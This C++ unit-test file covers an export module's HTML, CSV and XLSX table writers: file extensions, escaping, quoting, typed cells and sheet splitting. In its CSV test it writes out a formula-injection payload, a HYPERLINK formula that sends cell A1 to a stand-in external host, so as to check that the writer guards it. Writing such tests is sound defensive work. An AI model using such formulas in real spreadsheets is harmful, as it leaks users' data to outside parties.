// The export's file writers and the file name it writes to.
#include "export/table_writer.h"

#include <gtest/gtest.h>

#include <filesystem>

#include "export/export_path.h"
#include "export/xlsx_writer.h"
#include "export_files.h"
#include "support/probes.h"
#include "support/temp_dir.h"

namespace {

using Row = std::vector<TableCell>;

TEST(ExportPath, AppendsHtmUnlessThePathNamesHtmlCsvOrXlsxAndPrepareMakesTheFile) {
    const std::pair<const char*, const char*> cases[] = {
        {"/out/list", "/out/list.htm"},
        {"/out/list.htm", "/out/list.htm"},
        {"/out/list.HTML", "/out/list.HTML"},
        {"/a.html.bak", "/a.html.bak"},
        {"/my.htmfiles/list", "/my.htmfiles/list"},
        {"/out/list.Htm", "/out/list.Htm.htm"},  // case counts
        {"/out/list.csv", "/out/list.csv"},
        {"/out/list.CSV", "/out/list.CSV"},
        {"/out/list.csv.txt", "/out/list.csv.txt.htm"},
        {"/out/list.xlsx", "/out/list.xlsx"},
        {"/out/list.XLSX", "/out/list.XLSX"},
        {"/out/list.xls", "/out/list.xls.htm"}};
    for (const auto& [typed, path] : cases) EXPECT_EQ(WithExportExtension(typed), path);

    // Preparing makes the folders and an empty file, but keeps an existing file.
    TempModuleFolder temp;
    const std::string fresh = temp.Path() + "a/b/c.htm";
    ASSERT_TRUE(PrepareExportFile(fresh));
    EXPECT_EQ(std::filesystem::file_size(fresh), 0u);
    const std::string existing = temp.Path() + "old.htm";
    WriteFile(existing, "keep");
    ASSERT_TRUE(PrepareExportFile(existing));
    EXPECT_EQ(ReadFile(existing), "keep");
    std::filesystem::create_directory(temp.Path() + "dir.htm");
    EXPECT_FALSE(PrepareExportFile(temp.Path() + "dir.htm"));  // a folder is no file
}

TEST(HtmlTableWriter, WritesHeadRowsAndTailLineByLineWithEscapes) {
    TempModuleFolder temp;
    const std::string path = temp.Path() + "out.htm";
    {
        CHtmlTableWriter writer;
        ASSERT_EQ(writer.Open("活动资料 <1>", path), 1);
        writer.WriteRow(Row{"主题", "活动类型"});
        writer.WriteRow(Row{"a < b & c \"q\" <script>", ""});
        writer.WriteRow(Row{"第一行\n第二行", "&nbsp;"});
        EXPECT_EQ(writer.Close(), 1);
    }
    EXPECT_EQ(ReadFile(path), HtmlTable("活动资料 &lt;1&gt;",
                                        {{"主题", "活动类型"},
                                         {"a &lt; b &amp; c &quot;q&quot; &lt;script&gt;", "&nbsp"},
                                         {"第一行\n第二行", "&amp;nbsp;"}}));

    // An existing file is replaced; long texts stay whole across flushes.
    const std::string again = temp.Path() + "sub/dir/out.htm";  // folders made on the way
    const std::string longText(300000, 'a');
    std::vector<std::vector<std::string>> rows;
    for (int round = 0; round < 2; ++round) {
        CHtmlTableWriter writer;
        ASSERT_EQ(writer.Open("t", again), 1);
        rows.clear();
        for (int i = 0; i < 8 - 3 * round; ++i) {
            writer.WriteRow(Row{longText, std::to_string(i)});
            rows.push_back({longText, std::to_string(i)});
        }
    }                                                  // destroyed open: closed with its tail
    EXPECT_EQ(ReadFile(again), HtmlTable("t", rows));  // the shorter second file only
}

// Quotes around commas, quotes and line breaks; a guard before texts that start like a
// formula but not before the numbers the export formats; all after a byte order mark.
TEST(CsvTableWriter, QuotesAndGuardsTextsButNotTheNumbersItFormats) {
    TempModuleFolder temp;
    const std::string path = temp.Path() + "out.CSV";
    {
        auto writer = MakeTableWriter(path);
        ASSERT_EQ(writer->Open("销售资料", path), 1);
        writer->WriteRow(Row{"主题", "金额", ""});
        writer->WriteRow(Row{"a,b", "说\"好\"", "line1\nline2"});
        writer->WriteRow(Row{"cr\rx", "<plain> & ok", ""});
        writer->WriteRow(Row{"=HYPERLINK(\"http://x.example/?\"&A1,\"点我\")", "+1", "-1"});
        writer->WriteRow(Row{"@SUM(A1)", "\tx", "\rx"});
        writer->WriteRow(Row{"a=1", "1+1", "x-@\t"});
        writer->WriteRow(Row{Typed(CellKind::Money, -12.5, "-12.50"),
                             Typed(CellKind::Integer, -3, "-3"),
                             Typed(CellKind::Day, 1172729109, "2007_03_01")});
        ASSERT_EQ(writer->Close(), 1);
    }
    EXPECT_EQ(ReadFile(path),
              "\xEF\xBB\xBF"
              "主题,金额,\r\n"
              "\"a,b\",\"说\"\"好\"\"\",\"line1\nline2\"\r\n"
              "\"cr\rx\",<plain> & ok,\r\n"
              "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点我\"\")\",'+1,'-1\r\n"
              "'@SUM(A1),'\tx,\"'\rx\"\r\n"
              "a=1,1+1,x-@\t\r\n"
              "-12.50,-3,2007_03_01\r\n");
}

// 2007-03-01 14:05:09 in Shanghai (the tests' time zone).
constexpr double kStamp = 1172729109;

TEST(XlsxTableWriter, KeepsKindsTextsAndChineseAndNeverWritesFormulas) {
    TempModuleFolder temp;
    const std::string path = temp.Path() + "out.xlsx";
    {
        CXlsxTableWriter writer;
        ASSERT_EQ(writer.Open("销售资料", path), 1);
        writer.WriteRow(Row{"合同号", "主题", "数量", "单价", "折扣", "时长", "销售日期",
                            "开始时间", "消费时间", "备注"});
        writer.WriteRow(Row{"0108888", "=1+1", Typed(CellKind::Integer, 3),
                            Typed(CellKind::Money, 12.5, "12.50"), Typed(CellKind::Percent, 0.85),
                            Typed(CellKind::Minutes, 1590), Typed(CellKind::Day, kStamp),
                            Typed(CellKind::DateTime, kStamp), Typed(CellKind::TimeOfDay, kStamp),
                            ""});
        // 02:00 in Shanghai, the day before in UTC.
        writer.WriteRow(Row{"@SUM(A1:A2)", "中文 <b>&amp;</b>", "", "", "", "",
                            Typed(CellKind::Day, kStamp - 43509),
                            Typed(CellKind::DateTime, kStamp - 43509)});
        EXPECT_EQ(writer.Close(), 1);
    }
    EXPECT_EQ(DumpWorkbook(path),
              "sheet 销售资料 frozen=A2 widths: A=14 B=20 C=7 D=8 E=7 F=7 G=11 H=11 I=11 J=7\n"
              "A1 s '合同号' bold\nB1 s '主题' bold\nC1 s '数量' bold\nD1 s '单价' bold\n"
              "E1 s '折扣' bold\nF1 s '时长' bold\nG1 s '销售日期' bold\nH1 s '开始时间' bold\n"
              "I1 s '消费时间' bold\nJ1 s '备注' bold\n"
              "A2 s '0108888'\nB2 s '=1+1'\nC2 n 3 [0]\nD2 n 12.5 [0.00]\nE2 n 0.85 [0%]\n"
              "F2 n 1590 [0\"分钟\"]\nG2 d 2007-03-01T00:00:00 [yyyy-mm-dd]\n"
              "H2 d 2007-03-01T14:05:09 [yyyy-mm-dd hh:mm:ss]\nI2 d 14:05:09 [hh:mm:ss]\n"
              "A3 s '@SUM(A1:A2)'\nB3 s '中文 <b>&amp;</b>'\n"
              "G3 d 2007-03-01T00:00:00 [yyyy-mm-dd]\n"
              "H3 d 2007-03-01T02:00:00 [yyyy-mm-dd hh:mm:ss]\n");
}

TEST(XlsxTableWriter, RowsBeyondASheetGoOnTheNextAndACancelledWorkbookIsDropped) {
    TempModuleFolder temp;
    const std::string path = temp.Path() + "many.XLSX";
    CXlsxTableWriter writer(3);  // the heading and two records a sheet
    ASSERT_EQ(writer.Open("活动资料", path), 1);
    writer.WriteRow(Row{"主题"});
    for (int i = 1; i <= 5; ++i) writer.WriteRow(Row{Typed(CellKind::Integer, i, "1")});
    ASSERT_EQ(writer.Close(), 1);
    EXPECT_EQ(DumpWorkbook(path),
              "sheet 活动资料 frozen=A2 widths: A=7\nA1 s '主题' bold\nA2 n 1 [0]\nA3 n 2 [0]\n"
              "sheet 活动资料 (2) frozen=A2 widths: A=7\nA1 s '主题' bold\nA2 n 3 [0]\n"
              "A3 n 4 [0]\n"
              "sheet 活动资料 (3) frozen=A2 widths: A=7\nA1 s '主题' bold\nA2 n 5 [0]\n");

    // A cancelled workbook is dropped with its temporary files.
    const auto openFiles = [] {
        const auto fds = std::filesystem::directory_iterator("/proc/self/fd");
        return std::distance(begin(fds), end(fds));
    };
    const auto before = openFiles();
    const std::string cancelled = temp.Path() + "cancel.xlsx";
    CXlsxTableWriter small(2);
    ASSERT_EQ(small.Open("t", cancelled), 1);
    for (const char* text : {"h", "a", "b"}) small.WriteRow(Row{text});  // on two sheets
    small.CloseWithoutTail();
    EXPECT_FALSE(small.IsOpen());
    EXPECT_EQ(std::filesystem::file_size(cancelled), 0u);
    EXPECT_EQ(openFiles(), before);
}

}  // namespace
